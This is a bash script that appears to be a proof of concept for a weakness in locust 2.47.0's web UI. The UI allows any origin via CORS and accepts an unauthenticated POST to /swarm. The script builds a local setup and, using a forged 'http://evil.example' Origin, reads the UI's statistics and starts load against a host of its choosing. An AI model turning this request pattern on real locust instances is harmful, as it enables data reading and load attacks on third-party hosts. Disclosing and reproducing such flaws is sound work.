#!/usr/bin/env bash
# One would guess: locust's web UI on loopback can be used from its own page only.
# What happens: it lets every origin read its answers (CORS `*`), and `POST /swarm` needs neither a token nor an own Origin. So any
# web page that is open in the browser of the tester can read the figures and start load on a host of its choice, on loopback too.
# Version: locust 2.47.0. Source: locust/web.py, `CORS(app)` without origins, and the route `/swarm`.
set -euo pipefail
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
python3 -m venv "$folder/venv"
"$folder/venv/bin/pip" install --quiet --disable-pip-version-check locust==2.47.0
cat > "$folder/foreign.py" <<'PYTHON'
import gevent
from gevent.pywsgi import WSGIServer
from locust import HttpUser, constant, task
from locust.env import Environment

asked: list[str] = []


def answer(environ: dict, start_response) -> list[bytes]:
    asked.append(environ["PATH_INFO"])
    start_response("200 OK", [])
    return [b"ok"]


victim = WSGIServer(("127.0.0.1", 0), answer, log=None)
victim.start()


class Asking(HttpUser):
    host = "http://127.0.0.1:9"
    wait_time = constant(0.1)

    @task
    def ask(self) -> None:
        self.client.get("/chosen-by-a-foreign-page")


environment = Environment(user_classes=[Asking])
environment.create_local_runner()
web_ui = environment.create_web_ui("127.0.0.1", 0)
gevent.sleep(0.5)
page = web_ui.app.test_client()
foreign = {"Origin": "http://evil.example"}
read = page.get("/stats/requests", headers=foreign)
form = {"user_count": "1", "spawn_rate": "1", "host": f"http://127.0.0.1:{victim.server_port}"}
started = page.post("/swarm", data=form, headers=foreign)
gevent.sleep(2)
print(f"locust 2.47.0: a foreign page may read the answer: {read.headers['Access-Control-Allow-Origin']}; its form started: {started.json['success']}")
assert read.headers["Access-Control-Allow-Origin"] in ("*", "http://evil.example")
assert started.json["success"]
assert asked, "the host that the foreign page chose gets requests"
PYTHON
"$folder/venv/bin/python" "$folder/foreign.py"
